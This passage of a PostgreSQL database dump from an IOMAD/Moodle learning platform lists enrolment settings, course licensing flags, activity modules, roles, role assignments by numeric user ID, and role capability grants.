17	manual	0	6	0	\N	0	0	0	0	86400	0	\N	\N	\N	5	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	1788340380	1788340380
18	guest	1	6	1	\N	0	0	0	0	0	0		\N	\N	0	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	1788340380	1788340380
19	self	1	6	2	\N	0	0	0	0	86400	0	\N	\N	\N	5	0	0	0	1	0	1	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	1788340380	1788340380
20	license	1	6	3	\N	0	0	0	0	0	0	\N	\N	\N	5	\N	0	\N	1	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	1788340380	1788340380
21	manual	0	7	0	\N	0	0	0	0	86400	0	\N	\N	\N	5	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	1788340540	1788340540
22	guest	1	7	1	\N	0	0	0	0	0	0		\N	\N	0	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	1788340540	1788340540
23	self	1	7	2	\N	0	0	0	0	86400	0	\N	\N	\N	5	0	0	0	1	0	1	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	1788340540	1788340540
24	license	1	7	3	\N	0	0	0	0	0	0	\N	\N	\N	5	\N	0	\N	1	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	1788340540	1788340540
25	manual	0	8	0	\N	0	0	0	0	86400	0	\N	\N	\N	5	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	1788340680	1788340680
26	guest	1	8	1	\N	0	0	0	0	0	0		\N	\N	0	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	1788340680	1788340680
27	self	1	8	2	\N	0	0	0	0	86400	0	\N	\N	\N	5	0	0	0	1	0	1	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	1788340680	1788340680
28	license	1	8	3	\N	0	0	0	0	0	0	\N	\N	\N	5	\N	0	\N	1	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	1788340680	1788340680
29	manual	0	9	0	\N	0	0	0	0	86400	0	\N	\N	\N	5	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	1788340820	1788340820
30	guest	1	9	1	\N	0	0	0	0	0	0		\N	\N	0	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	1788340820	1788340820
32	license	1	9	3	\N	0	0	0	0	0	0	\N	\N	\N	5	\N	0	\N	1	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	1788340820	1788340820
33	manual	0	10	0	\N	0	0	0	0	86400	0	\N	\N	\N	5	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	1788341080	1788341080
34	guest	1	10	1	\N	0	0	0	0	0	0		\N	\N	0	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	1788341080	1788341080
35	self	1	10	2	\N	0	0	0	0	86400	0	\N	\N	\N	5	0	0	0	1	0	1	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	1788341080	1788341080
36	license	1	10	3	\N	0	0	0	0	0	0	\N	\N	\N	5	\N	0	\N	1	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	1788341080	1788341080
37	manual	0	11	0	\N	0	0	0	0	86400	0	\N	\N	\N	5	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	1788341260	1788341260
38	guest	1	11	1	\N	0	0	0	0	0	0		\N	\N	0	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	1788341260	1788341260
39	self	1	11	2	\N	0	0	0	0	86400	0	\N	\N	\N	5	0	0	0	1	0	1	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	1788341260	1788341260
40	license	1	11	3	\N	0	0	0	0	0	0	\N	\N	\N	5	\N	0	\N	1	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	1788341260	1788341260
42	guest	1	12	1	\N	0	0	0	0	0	0		\N	\N	0	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	1788341420	1788341420
43	self	1	12	2	\N	0	0	0	0	86400	0	\N	\N	\N	5	0	0	0	1	0	1	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	1788341420	1788341420
44	license	1	12	3	\N	0	0	0	0	0	0	\N	\N	\N	5	\N	0	\N	1	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	1788341420	1788341420
45	manual	0	13	0	\N	0	0	0	0	86400	0	\N	\N	\N	5	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	1788341600	1788341600
46	guest	1	13	1	\N	0	0	0	0	0	0		\N	\N	0	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	1788341600	1788341600
47	self	1	13	2	\N	0	0	0	0	86400	0	\N	\N	\N	5	0	0	0	1	0	1	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	1788341600	1788341600
48	license	1	13	3	\N	0	0	0	0	0	0	\N	\N	\N	5	\N	0	\N	1	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	1788341600	1788341600
49	manual	0	14	0	\N	0	0	0	0	86400	0	\N	\N	\N	5	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	1788341740	1788341740
50	guest	1	14	1	\N	0	0	0	0	0	0		\N	\N	0	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	1788341740	1788341740
41	manual	0	12	0	\N	0	0	0	0	86400	0	\N	\N	\N	5	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	1788341420	1788341420
15	self	1	5	2	\N	0	0	0	0	86400	0	\N	\N	\N	5	0	0	0	1	0	1	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	1788340200	1788340200
51	self	1	14	2	\N	0	0	0	0	86400	0	\N	\N	\N	5	0	0	0	1	0	1	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	1788341740	1788341740
52	license	1	14	3	\N	0	0	0	0	0	0	\N	\N	\N	5	\N	0	\N	1	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	1788341740	1788341740
53	manual	0	15	0	\N	0	0	0	0	86400	0	\N	\N	\N	5	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	1788341900	1788341900
54	guest	1	15	1	\N	0	0	0	0	0	0		\N	\N	0	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	1788341900	1788341900
55	self	1	15	2	\N	0	0	0	0	86400	0	\N	\N	\N	5	0	0	0	1	0	1	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	1788341900	1788341900
56	license	1	15	3	\N	0	0	0	0	0	0	\N	\N	\N	5	\N	0	\N	1	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	1788341900	1788341900
57	manual	0	16	0	\N	0	0	0	0	86400	0	\N	\N	\N	5	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	1788342120	1788342120
58	guest	1	16	1	\N	0	0	0	0	0	0		\N	\N	0	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	1788342120	1788342120
59	self	1	16	2	\N	0	0	0	0	86400	0	\N	\N	\N	5	0	0	0	1	0	1	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	1788342120	1788342120
60	license	1	16	3	\N	0	0	0	0	0	0	\N	\N	\N	5	\N	0	\N	1	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	1788342120	1788342120
3	self	0	2	2	\N	0	0	0	0	86400	0	\N	\N	\N	5	0	0	0	1	0	1	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	1788339600	1788339600
31	self	0	9	2	\N	0	0	0	0	86400	0	\N	\N	\N	5	0	0	0	1	0	1	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	1788340820	1788340820
\.


--
-- Data for Name: mdl_iomad_courses; Type: TABLE DATA; Schema: public; Owner: -
--

COPY public.mdl_iomad_courses (id, courseid, licensed, shared, validlength, warnexpire, warncompletion, notifyperiod, expireafter, warnnotstarted, hasgrade) FROM stdin;
1	2	0	0	0	0	0	0	0	0	1
2	3	0	0	0	0	0	0	0	0	1
4	15	0	0	0	0	0	0	0	0	1
5	6	0	0	0	0	0	0	0	0	1
6	7	0	0	0	0	0	0	0	0	1
7	8	0	0	0	0	0	0	0	0	1
8	9	0	0	0	0	0	0	0	0	1
10	11	0	0	0	0	0	0	0	0	1
11	12	0	0	0	0	0	0	0	0	1
12	13	0	0	0	0	0	0	0	0	1
13	14	0	0	0	0	0	0	0	0	1
14	5	0	1	0	0	0	0	0	0	1
3	4	0	2	0	0	0	0	0	0	1
9	10	1	0	0	0	0	0	0	0	1
\.


--
-- Data for Name: mdl_modules; Type: TABLE DATA; Schema: public; Owner: -
--

COPY public.mdl_modules (id, name, cron, lastcron, search, visible) FROM stdin;
1	assign	0	0		1
2	assignment	60	0		0
3	bigbluebuttonbn	0	0		0
4	book	0	0		1
5	chat	0	0		1
6	choice	0	0		1
7	data	0	0		1
8	feedback	0	0		1
9	folder	0	0		1
10	forum	0	0		1
11	glossary	0	0		1
12	h5pactivity	0	0		1
13	imscp	0	0		1
14	iomadcertificate	0	0		1
15	label	0	0		1
16	lesson	0	0		1
17	lti	0	0		1
18	page	0	0		1
19	quiz	0	0		1
20	resource	0	0		1
21	scorm	0	0		1
22	survey	0	0		1
23	trainingevent	0	0		1
24	url	0	0		1
25	wiki	0	0		1
26	workshop	0	0		1
\.


--
-- Data for Name: mdl_role; Type: TABLE DATA; Schema: public; Owner: -
--

COPY public.mdl_role (id, name, shortname, description, sortorder, archetype) FROM stdin;
1		manager		1	manager
2		coursecreator		2	coursecreator
3		editingteacher		3	editingteacher
4		teacher		4	teacher
5		student		5	student
6		guest		6	guest
7		user		7	user
8		frontpage		8	frontpage
9	Client Administrator	clientadministrator	(Iomad) Manages site - can create new companies and add managers etc.	9	clientadministrator
10	Company Manager	companymanager	(Iomad) Manages individual companies - can upload users etc.	10	companymanager
11	Company Department Manager	companydepartmentmanager	Iomad Manages departments within companies - can upload users etc.	11	companydepartmentmanager
12	Client Course Editor	companycourseeditor	Iomad Client Course Editor - can edit course content; add, delete, modify etc..	12	companycourseeditor
13	Client Course Access	companycoursenoneditor	Iomad Client Course Access - similar to the non-editing teacher role for client admin	13	companycoursenoneditor
14	Client Reporter Only	clientreporter	Iomad Client Report Only  - Similar to the client admin roles but allows for access to the reports only	14	clientreporter
15	Company Reporter Only	companyreporter	Iomad Company Report Only - similar to the company manager role but allows for access to the company reports only	15	companyreporter
\.


--
-- Data for Name: mdl_role_assignments; Type: TABLE DATA; Schema: public; Owner: -
--

COPY public.mdl_role_assignments (id, roleid, contextid, userid, timemodified, modifierid, component, itemid, sortorder) FROM stdin;
1	10	1	36	1788428224	2		0	0
2	12	42	36	1788428224	2		0	0
3	12	45	36	1788428224	2		0	0
4	12	47	36	1788428224	2		0	0
5	12	49	36	1788428224	2		0	0
6	13	31	36	1788428224	2		0	0
7	13	22	36	1788428224	2		0	0
8	13	38	36	1788428224	2		0	0
9	5	38	3	1788595200	2		0	0
10	5	27	4	1788595237	2		0	0
11	5	74	4	1788595274	2		0	0
12	5	22	5	1788595311	2		0	0
13	5	27	5	1788595348	2		0	0
14	5	74	5	1788595385	2		0	0
15	5	31	6	1788595422	2		0	0
16	5	38	6	1788595459	2		0	0
17	5	22	7	1788595496	2		0	0
18	5	31	7	1788595533	2		0	0
19	5	74	7	1788595570	2		0	0
20	5	27	8	1788595607	2		0	0
21	5	31	8	1788595644	2		0	0
22	5	38	8	1788595681	2		0	0
23	5	22	9	1788595718	2		0	0
24	5	31	9	1788595755	2		0	0
25	5	74	9	1788595792	2		0	0
26	5	22	10	1788595829	2		0	0
27	5	27	10	1788595866	2		0	0
28	5	31	10	1788595903	2		0	0
29	5	38	10	1788595940	2		0	0
30	5	74	10	1788595977	2		0	0
32	5	27	11	1788596051	2		0	0
33	5	31	11	1788596088	2		0	0
35	5	74	11	1788596162	2		0	0
37	5	27	12	1788596236	2		0	0
38	5	31	12	1788596273	2		0	0
39	5	38	12	1788596310	2		0	0
40	5	74	12	1788596347	2		0	0
41	5	27	13	1788596384	2		0	0
42	5	31	13	1788596421	2		0	0
43	5	38	13	1788596458	2		0	0
44	5	74	13	1788596495	2		0	0
49	5	27	15	1788596680	2		0	0
50	5	38	15	1788596717	2		0	0
51	5	74	15	1788596754	2		0	0
52	5	27	16	1788596791	2		0	0
53	5	31	16	1788596828	2		0	0
54	5	38	16	1788596865	2		0	0
55	5	74	16	1788596902	2		0	0
56	5	22	17	1788596939	2		0	0
57	5	27	17	1788596976	2		0	0
58	5	31	17	1788597013	2		0	0
59	5	38	17	1788597050	2		0	0
60	5	74	17	1788597087	2		0	0
61	5	74	18	1788597124	2		0	0
62	5	22	19	1788597161	2		0	0
63	5	74	19	1788597198	2		0	0
64	5	22	20	1788597235	2		0	0
65	5	27	20	1788597272	2		0	0
66	5	31	20	1788597309	2		0	0
67	5	38	20	1788597346	2		0	0
68	5	74	20	1788597383	2		0	0
69	5	45	21	1788597420	2		0	0
70	5	47	21	1788597457	2		0	0
71	5	31	21	1788597494	2		0	0
72	5	45	22	1788597531	2		0	0
73	5	49	22	1788597568	2		0	0
74	5	31	22	1788597605	2		0	0
75	5	22	22	1788597642	2		0	0
76	5	38	22	1788597679	2		0	0
77	5	45	23	1788597716	2		0	0
78	5	49	23	1788597753	2		0	0
79	5	22	23	1788597790	2		0	0
80	5	38	23	1788597827	2		0	0
81	5	45	24	1788597864	2		0	0
82	5	47	24	1788597901	2		0	0
83	5	49	24	1788597938	2		0	0
84	5	31	24	1788597975	2		0	0
85	5	45	25	1788598012	2		0	0
86	5	47	25	1788598049	2		0	0
87	5	31	25	1788598086	2		0	0
88	5	22	25	1788598123	2		0	0
89	5	38	25	1788598160	2		0	0
90	5	42	26	1788598197	2		0	0
91	5	45	26	1788598234	2		0	0
92	5	49	26	1788598271	2		0	0
93	5	31	26	1788598308	2		0	0
94	5	22	26	1788598345	2		0	0
95	5	42	27	1788598382	2		0	0
96	5	45	27	1788598419	2		0	0
97	5	49	27	1788598456	2		0	0
98	5	31	27	1788598493	2		0	0
99	5	22	27	1788598530	2		0	0
100	5	45	28	1788598567	2		0	0
101	5	47	28	1788598604	2		0	0
102	5	49	28	1788598641	2		0	0
103	5	31	28	1788598678	2		0	0
104	5	22	28	1788598715	2		0	0
105	5	42	29	1788598752	2		0	0
106	5	45	29	1788598789	2		0	0
107	5	47	29	1788598826	2		0	0
108	5	49	29	1788598863	2		0	0
109	5	22	29	1788598900	2		0	0
110	5	38	29	1788598937	2		0	0
111	5	42	30	1788598974	2		0	0
112	5	45	30	1788599011	2		0	0
113	5	49	30	1788599048	2		0	0
114	5	31	30	1788599085	2		0	0
115	5	22	30	1788599122	2		0	0
116	5	38	30	1788599159	2		0	0
117	5	42	31	1788599196	2		0	0
118	5	47	31	1788599233	2		0	0
119	5	49	31	1788599270	2		0	0
120	5	22	31	1788599307	2		0	0
121	5	38	31	1788599344	2		0	0
132	5	42	34	1788599751	2		0	0
133	5	45	34	1788599788	2		0	0
134	5	47	34	1788599825	2		0	0
135	5	49	34	1788599862	2		0	0
136	5	31	34	1788599899	2		0	0
137	5	22	34	1788599936	2		0	0
138	5	38	34	1788599973	2		0	0
139	5	42	35	1788600010	2		0	0
140	5	45	35	1788600047	2		0	0
141	5	47	35	1788600084	2		0	0
142	5	22	35	1788600121	2		0	0
143	5	42	36	1788600158	2		0	0
144	5	45	36	1788600195	2		0	0
145	5	47	36	1788600232	2		0	0
146	5	49	36	1788600269	2		0	0
147	5	22	36	1788600306	2		0	0
148	5	38	36	1788600343	2		0	0
149	5	61	38	1788600380	2		0	0
150	5	38	38	1788600417	2		0	0
151	5	61	39	1788600454	2		0	0
152	5	38	39	1788600491	2		0	0
153	5	61	40	1788600528	2		0	0
154	5	38	40	1788600565	2		0	0
155	5	61	41	1788600602	2		0	0
156	5	38	41	1788600639	2		0	0
157	5	61	42	1788600676	2		0	0
158	5	38	42	1788600713	2		0	0
159	5	61	43	1788600750	2		0	0
160	5	38	43	1788600787	2		0	0
161	5	61	44	1788600824	2		0	0
162	5	38	44	1788600861	2		0	0
163	5	61	45	1788600898	2		0	0
164	5	38	45	1788600935	2		0	0
167	5	38	47	1788601046	2		0	0
168	5	61	48	1788601083	2		0	0
169	5	38	48	1788601120	2		0	0
170	5	64	49	1788601157	2		0	0
171	5	68	49	1788601194	2		0	0
172	5	38	49	1788601231	2		0	0
173	5	68	50	1788601268	2		0	0
174	5	68	51	1788601305	2		0	0
175	5	38	51	1788601342	2		0	0
176	5	64	52	1788601379	2		0	0
177	5	68	52	1788601416	2		0	0
178	5	38	52	1788601453	2		0	0
179	5	64	53	1788601490	2		0	0
180	5	68	53	1788601527	2		0	0
181	5	38	53	1788601564	2		0	0
182	5	64	54	1788601601	2		0	0
183	5	68	54	1788601638	2		0	0
184	5	68	56	1788601675	2		0	0
185	5	38	56	1788601712	2		0	0
186	5	68	57	1788601749	2		0	0
187	5	64	58	1788601786	2		0	0
188	5	68	58	1788601823	2		0	0
189	5	71	59	1788601860	2		0	0
190	5	22	59	1788601897	2		0	0
191	5	71	60	1788601934	2		0	0
192	5	22	60	1788601971	2		0	0
193	5	71	62	1788602008	2		0	0
194	5	71	63	1788602045	2		0	0
195	5	22	63	1788602082	2		0	0
196	5	71	64	1788602119	2		0	0
197	5	22	64	1788602156	2		0	0
198	5	80	3	1788602193	2		0	0
199	5	80	4	1788602230	2		0	0
200	5	80	5	1788602267	2		0	0
201	5	49	3	1788602304	2		0	0
202	5	49	4	1788602341	2		0	0
203	5	57	37	1788602378	2		0	0
204	5	57	38	1788602389	2		0	0
205	5	57	39	1788602400	2		0	0
206	5	57	40	1788602411	2		0	0
207	5	57	41	1788602422	2		0	0
208	5	22	11	1793178180	2		0	0
209	5	38	50	1793524140	2		0	0
\.


--
-- Data for Name: mdl_role_capabilities; Type: TABLE DATA; Schema: public; Owner: -
--

COPY public.mdl_role_capabilities (id, contextid, roleid, capability, permission, timemodified, modifierid) FROM stdin;
1	1	1	moodle/site:configview	1	1795225893	0
2	1	2	moodle/site:configview	1	1795225893	0
3	1	1	moodle/site:readallmessages	1	1795225893	0
4	1	3	moodle/site:readallmessages	1	1795225893	0
5	1	1	moodle/site:manageallmessaging	1	1795225893	0
6	1	1	moodle/site:deleteanymessage	1	1795225893	0
7	1	1	moodle/site:sendmessage	1	1795225893	0
8	1	7	moodle/site:sendmessage	1	1795225893	0
9	1	7	moodle/site:senderrormessage	1	1795225893	0
10	1	7	moodle/site:deleteownmessage	1	1795225893	0
11	1	1	moodle/site:approvecourse	1	1795225893	0
12	1	3	moodle/backup:backupcourse	1	1795225893	0
13	1	1	moodle/backup:backupcourse	1	1795225893	0
14	1	3	moodle/backup:backupsection	1	1795225894	0
15	1	1	moodle/backup:backupsection	1	1795225894	0
16	1	3	moodle/backup:backupactivity	1	1795225894	0
17	1	1	moodle/backup:backupactivity	1	1795225894	0
18	1	3	moodle/backup:backuptargetimport	1	1795225894	0
19	1	1	moodle/backup:backuptargetimport	1	1795225894	0
20	1	3	moodle/backup:downloadfile	1	1795225894	0
21	1	1	moodle/backup:downloadfile	1	1795225894	0
22	1	3	moodle/backup:configure	1	1795225894	0
23	1	1	moodle/backup:configure	1	1795225894	0
24	1	1	moodle/backup:userinfo	1	1795225894	0
25	1	1	moodle/backup:anonymise	1	1795225894	0
26	1	3	moodle/restore:restorecourse	1	1795225894	0
27	1	1	moodle/restore:restorecourse	1	1795225894	0
28	1	3	moodle/restore:restoresection	1	1795225894	0
29	1	1	moodle/restore:restoresection	1	1795225894	0
30	1	3	moodle/restore:restoreactivity	1	1795225894	0
31	1	1	moodle/restore:restoreactivity	1	1795225894	0
32	1	3	moodle/restore:viewautomatedfilearea	1	1795225894	0
33	1	1	moodle/restore:viewautomatedfilearea	1	1795225894	0
34	1	3	moodle/restore:restoretargetimport	1	1795225894	0
35	1	1	moodle/restore:restoretargetimport	1	1795225894	0
36	1	3	moodle/restore:uploadfile	1	1795225895	0
37	1	1	moodle/restore:uploadfile	1	1795225895	0
38	1	3	moodle/restore:configure	1	1795225895	0
39	1	1	moodle/restore:configure	1	1795225895	0
40	1	2	moodle/restore:rolldates	1	1795225895	0
41	1	1	moodle/restore:rolldates	1	1795225895	0
42	1	1	moodle/restore:userinfo	1	1795225895	0
43	1	1	moodle/restore:createuser	1	1795225895	0
44	1	3	moodle/site:manageblocks	1	1795225895	0
45	1	12	moodle/site:manageblocks	1	1795225895	0
46	1	1	moodle/site:manageblocks	1	1795225895	0
47	1	3	moodle/site:accessallgroups	1	1795225895	0
48	1	12	moodle/site:accessallgroups	1	1795225895	0
49	1	1	moodle/site:accessallgroups	1	1795225895	0
50	1	1	moodle/site:viewanonymousevents	1	1795225895	0
51	1	4	moodle/site:viewfullnames	1	1795225895	0
52	1	3	moodle/site:viewfullnames	1	1795225895	0
53	1	12	moodle/site:viewfullnames	1	1795225895	0
54	1	13	moodle/site:viewfullnames	1	1795225895	0
55	1	1	moodle/site:viewfullnames	1	1795225895	0
56	1	4	moodle/site:viewuseridentity	1	1795225895	0
57	1	3	moodle/site:viewuseridentity	1	1795225895	0
58	1	12	moodle/site:viewuseridentity	1	1795225895	0
59	1	13	moodle/site:viewuseridentity	1	1795225895	0
60	1	1	moodle/site:viewuseridentity	1	1795225895	0
61	1	4	moodle/site:viewreports	1	1795225896	0
62	1	3	moodle/site:viewreports	1	1795225896	0
63	1	12	moodle/site:viewreports	1	1795225896	0
64	1	13	moodle/site:viewreports	1	1795225896	0
65	1	1	moodle/site:viewreports	1	1795225896	0
66	1	3	moodle/site:trustcontent	1	1795225896	0
67	1	12	moodle/site:trustcontent	1	1795225896	0
68	1	1	moodle/site:trustcontent	1	1795225896	0
69	1	1	moodle/site:uploadusers	1	1795225896	0
70	1	3	moodle/filter:manage	1	1795225896	0
71	1	1	moodle/filter:manage	1	1795225896	0
72	1	1	moodle/user:create	1	1795225896	0
73	1	1	moodle/user:delete	1	1795225896	0
74	1	1	moodle/user:update	1	1795225896	0
75	1	6	moodle/user:viewdetails	1	1795225896	0
76	1	5	moodle/user:viewdetails	1	1795225896	0
77	1	4	moodle/user:viewdetails	1	1795225896	0
78	1	3	moodle/user:viewdetails	1	1795225896	0
79	1	12	moodle/user:viewdetails	1	1795225896	0
80	1	13	moodle/user:viewdetails	1	1795225896	0
81	1	1	moodle/user:viewdetails	1	1795225896	0
82	1	1	moodle/user:viewalldetails	1	1795225896	0
83	1	1	moodle/user:viewlastip	1	1795225896	0
84	1	4	moodle/user:viewhiddendetails	1	1795225897	0
85	1	3	moodle/user:viewhiddendetails	1	1795225897	0
86	1	1	moodle/user:viewhiddendetails	1	1795225897	0
87	1	1	moodle/user:loginas	1	1795225897	0
88	1	1	moodle/user:managesyspages	1	1795225897	0
89	1	7	moodle/user:manageownblocks	1	1795225897	0
90	1	7	moodle/user:manageownfiles	1	1795225897	0
91	1	1	moodle/my:configsyspages	1	1795225897	0
92	1	3	moodle/role:assign	1	1795225897	0
93	1	1	moodle/role:assign	1	1795225897	0
94	1	4	moodle/role:review	1	1795225897	0
95	1	3	moodle/role:review	1	1795225897	0
96	1	1	moodle/role:review	1	1795225897	0
97	1	1	moodle/role:override	1	1795225897	0
98	1	3	moodle/role:safeoverride	1	1795225897	0
99	1	1	moodle/role:manage	1	1795225897	0
100	1	3	moodle/role:switchroles	1	1795225897	0
101	1	12	moodle/role:switchroles	1	1795225897	0
102	1	1	moodle/role:switchroles	1	1795225897	0
103	1	1	moodle/category:manage	1	1795225897	0
104	1	6	moodle/category:viewcourselist	1	1795225897	0
105	1	7	moodle/category:viewcourselist	1	1795225897	0
106	1	2	moodle/category:viewhiddencategories	1	1795225898	0
107	1	1	moodle/category:viewhiddencategories	1	1795225898	0
108	1	1	moodle/cohort:manage	1	1795225898	0
109	1	1	moodle/cohort:assign	1	1795225898	0
110	1	3	moodle/cohort:view	1	1795225898	0
111	1	1	moodle/cohort:view	1	1795225898	0
112	1	2	moodle/course:create	1	1795225898	0
113	1	1	moodle/course:create	1	1795225898	0
114	1	3	moodle/course:creategroupconversations	1	1795225898	0
115	1	1	moodle/course:creategroupconversations	1	1795225898	0
116	1	1	moodle/course:delete	1	1795225898	0
117	1	3	moodle/course:update	1	1795225898	0
118	1	12	moodle/course:update	1	1795225898	0
119	1	1	moodle/course:update	1	1795225898	0
120	1	1	moodle/course:view	1	1795225898	0
121	1	3	moodle/course:enrolreview	1	1795225898	0
122	1	1	moodle/course:enrolreview	1	1795225898	0
123	1	3	moodle/course:enrolconfig	1	1795225898	0
124	1	1	moodle/course:enrolconfig	1	1795225898	0
125	1	3	moodle/course:reviewotherusers	1	1795225898	0
126	1	1	moodle/course:reviewotherusers	1	1795225898	0
127	1	4	moodle/course:bulkmessaging	1	1795225898	0
128	1	3	moodle/course:bulkmessaging	1	1795225898	0
129	1	1	moodle/course:bulkmessaging	1	1795225898	0
130	1	4	moodle/course:viewhiddenuserfields	1	1795225899	0
131	1	3	moodle/course:viewhiddenuserfields	1	1795225899	0
132	1	1	moodle/course:viewhiddenuserfields	1	1795225899	0
133	1	2	moodle/course:viewhiddencourses	1	1795225899	0
134	1	4	moodle/course:viewhiddencourses	1	1795225899	0
135	1	3	moodle/course:viewhiddencourses	1	1795225899	0
136	1	1	moodle/course:viewhiddencourses	1	1795225899	0
137	1	3	moodle/course:visibility	1	1795225899	0
138	1	1	moodle/course:visibility	1	1795225899	0
139	1	3	moodle/course:managefiles	1	1795225899	0
140	1	12	moodle/course:managefiles	1	1795225899	0
141	1	1	moodle/course:managefiles	1	1795225899	0
142	1	1	moodle/course:ignoreavailabilityrestrictions	1	1795225899	0
143	1	2	moodle/course:ignoreavailabilityrestrictions	1	1795225899	0
144	1	3	moodle/course:ignoreavailabilityrestrictions	1	1795225899	0
145	1	4	moodle/course:ignoreavailabilityrestrictions	1	1795225899	0
146	1	3	moodle/course:manageactivities	1	1795225899	0
147	1	12	moodle/course:manageactivities	1	1795225899	0
148	1	1	moodle/course:manageactivities	1	1795225899	0
149	1	3	moodle/course:activityvisibility	1	1795225899	0
150	1	12	moodle/course:activityvisibility	1	1795225899	0
151	1	1	moodle/course:activityvisibility	1	1795225899	0
152	1	4	moodle/course:viewhiddenactivities	1	1795225900	0
153	1	3	moodle/course:viewhiddenactivities	1	1795225900	0
154	1	12	moodle/course:viewhiddenactivities	1	1795225900	0
155	1	13	moodle/course:viewhiddenactivities	1	1795225900	0
156	1	1	moodle/course:viewhiddenactivities	1	1795225900	0
157	1	5	moodle/course:viewparticipants	1	1795225900	0
158	1	4	moodle/course:viewparticipants	1	1795225900	0
159	1	3	moodle/course:viewparticipants	1	1795225900	0
160	1	12	moodle/course:viewparticipants	1	1795225900	0
161	1	13	moodle/course:viewparticipants	1	1795225900	0
162	1	1	moodle/course:viewparticipants	1	1795225900	0
163	1	3	moodle/course:changefullname	1	1795225900	0
164	1	12	moodle/course:changefullname	1	1795225900	0
165	1	1	moodle/course:changefullname	1	1795225900	0
166	1	3	moodle/course:changeshortname	1	1795225900	0
167	1	1	moodle/course:changeshortname	1	1795225900	0
168	1	1	moodle/course:changelockedcustomfields	1	1795225900	0
169	1	3	moodle/course:renameroles	1	1795225900	0
170	1	1	moodle/course:renameroles	1	1795225900	0
171	1	3	moodle/course:changeidnumber	1	1795225900	0
172	1	1	moodle/course:changeidnumber	1	1795225900	0
173	1	3	moodle/course:changecategory	1	1795225901	0
174	1	1	moodle/course:changecategory	1	1795225901	0
175	1	3	moodle/course:changesummary	1	1795225901	0
176	1	12	moodle/course:changesummary	1	1795225901	0
177	1	1	moodle/course:changesummary	1	1795225901	0
178	1	3	moodle/course:setforcedlanguage	1	1795225901	0
179	1	1	moodle/course:setforcedlanguage	1	1795225901	0
180	1	1	moodle/site:viewparticipants	1	1795225901	0
181	1	5	moodle/course:isincompletionreports	1	1795225901	0
182	1	5	moodle/course:viewscales	1	1795225901	0
183	1	4	moodle/course:viewscales	1	1795225901	0
184	1	3	moodle/course:viewscales	1	1795225901	0
185	1	1	moodle/course:viewscales	1	1795225901	0
186	1	3	moodle/course:managescales	1	1795225901	0
187	1	1	moodle/course:managescales	1	1795225901	0
188	1	3	moodle/course:managegroups	1	1795225901	0
189	1	12	moodle/course:managegroups	1	1795225901	0
190	1	1	moodle/course:managegroups	1	1795225901	0
191	1	3	moodle/course:reset	1	1795225901	0
192	1	12	moodle/course:reset	1	1795225901	0
193	1	1	moodle/course:reset	1	1795225902	0
194	1	3	moodle/course:viewsuspendedusers	1	1795225902	0
195	1	1	moodle/course:viewsuspendedusers	1	1795225902	0
196	1	1	moodle/course:tag	1	1795225902	0
197	1	3	moodle/course:tag	1	1795225902	0
198	1	6	moodle/blog:view	1	1795225902	0
